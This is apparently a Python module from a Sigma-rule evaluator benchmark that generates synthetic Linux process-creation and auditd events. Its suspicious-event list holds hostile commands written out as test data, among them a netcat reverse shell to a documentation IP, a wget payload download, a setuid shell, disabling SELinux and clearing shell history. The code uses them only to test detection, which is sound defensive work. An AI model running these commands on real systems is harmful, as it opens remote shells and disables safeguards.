"""Deterministic Linux process_creation and auditd events, in the Sigma taxonomy's field names.

For the evaluator benchmark's mixed run: SigmaHQ's Linux rules are mostly about process
creation (``category: process_creation``, ``product: linux``) and auditd records
(``service: auditd``); syslog lines alone leave those rules idle. About 3% of the events are
commands or records some SigmaHQ rule looks for.
"""

from __future__ import annotations

import random
from typing import Any

from taintsigma.evaluate.compile import LogSource

PROCESS_CREATION = LogSource(category="process_creation", product="linux")
AUDITD = LogSource(product="linux", service="auditd")

_BENIGN = [
    ("/usr/bin/ls", "ls -la /var/log"),
    ("/usr/bin/grep", "grep -r TODO src/"),
    ("/usr/bin/python3", "python3 -m pytest -q"),
    ("/usr/bin/git", "git status --short"),
    ("/usr/bin/systemctl", "systemctl status nginx"),
    ("/usr/bin/cat", "cat /etc/hostname"),
    ("/usr/bin/ssh", "ssh deploy@10.0.0.12 uptime"),
    ("/usr/bin/tar", "tar czf /backup/home.tgz /home/alice"),
    ("/usr/bin/journalctl", "journalctl -u sshd --since today"),
    ("/usr/bin/apt-get", "apt-get install -y htop"),
    ("/usr/bin/curl", "curl -fsSL https://example.org/health"),
    ("/usr/sbin/cron", "/usr/sbin/cron -f"),
]
_SUSPICIOUS = [
    ("/usr/bin/base64", "base64 -d /tmp/payload.b64"),
    ("/usr/bin/chmod", "chmod +s /tmp/sh"),
    ("/usr/bin/crontab", "crontab -r"),
    ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444"),
    ("/usr/sbin/setenforce", "setenforce 0"),
    ("/usr/bin/history", "history -c"),
    ("/usr/bin/chattr", "chattr -i /etc/passwd"),
    ("/usr/bin/wget", "wget http://203.0.113.7/x -O /tmp/x"),
]
_SYSCALLS = ["open", "openat", "execve", "connect", "unlink", "rename", "chmod"]


def _process(r: random.Random, suspicious: bool) -> dict[str, Any]:
    image, command = r.choice(_SUSPICIOUS if suspicious else _BENIGN)
    parent = r.choice(["/usr/bin/bash", "/usr/bin/zsh", "/usr/sbin/sshd", "/usr/bin/sudo"])
    return {
        "Image": image,
        "CommandLine": command,
        "ParentImage": parent,
        "ParentCommandLine": parent.rsplit("/", 1)[-1],
        "User": r.choice(["root", "alice", "bob", "www-data"]),
        "CurrentDirectory": r.choice(["/root", "/home/alice", "/tmp", "/var/www"]),
        "ProcessId": r.randint(300, 65000),
    }


def _auditd(r: random.Random, suspicious: bool) -> dict[str, Any]:
    if suspicious:
        return r.choice(
            [
                {"type": "EXECVE", "argc": "3", "a0": "chmod", "a1": "+s", "a2": "/tmp/sh"},
                {"type": "PATH", "name": "/etc/shadow", "nametype": "NORMAL"},
                {"type": "SYSCALL", "syscall": "init_module", "exe": "/usr/sbin/insmod"},
                {"type": "EXECVE", "argc": "2", "a0": "base64", "a1": "-d"},
            ]
        )
    kind = r.choice(["SYSCALL", "PATH", "EXECVE", "USER_LOGIN", "CWD"])
    if kind == "SYSCALL":
        return {"type": kind, "syscall": r.choice(_SYSCALLS), "exe": "/usr/bin/python3",
                "comm": "python3", "success": "yes", "key": "(null)"}  # fmt: skip
    if kind == "PATH":
        return {"type": kind, "name": f"/home/alice/file{r.randint(0, 999)}", "nametype": "NORMAL"}
    if kind == "EXECVE":
        command = r.choice(_BENIGN)[1]
        args = command.split()
        return {"type": kind, "argc": str(len(args)), **{f"a{i}": a for i, a in enumerate(args)}}
    if kind == "USER_LOGIN":
        return {"type": kind, "acct": "alice", "res": "success", "addr": "10.0.0.5"}
    return {"type": kind, "cwd": "/home/alice"}


def make_mixed(syslog: list[dict], count: int, seed: int = 20261130) -> list[tuple[dict, Any]]:
    """``count`` (event, LogSource) pairs: a third process_creation, a third auditd, a third
    the given syslog events (taxonomy names) in turn."""
    from bench_evaluate import SYSLOG

    r = random.Random(seed)
    events: list[tuple[dict, Any]] = []
    for i in range(count):
        suspicious = r.random() < 0.03
        kind = i % 3
        if kind == 0:
            events.append((_process(r, suspicious), PROCESS_CREATION))
        elif kind == 1:
            events.append((_auditd(r, suspicious), AUDITD))
        else:
            events.append((syslog[i % len(syslog)], SYSLOG))
    return events


def mixed_pass(matcher: Any):
    """The native evaluator over (event, log source) pairs: the events matched."""

    def run(pairs: list[tuple[dict, Any]]) -> int:
        match, hits = matcher.match, 0
        for event, logsource in pairs:
            if match(event, logsource):
                hits += 1
        return hits

    return run
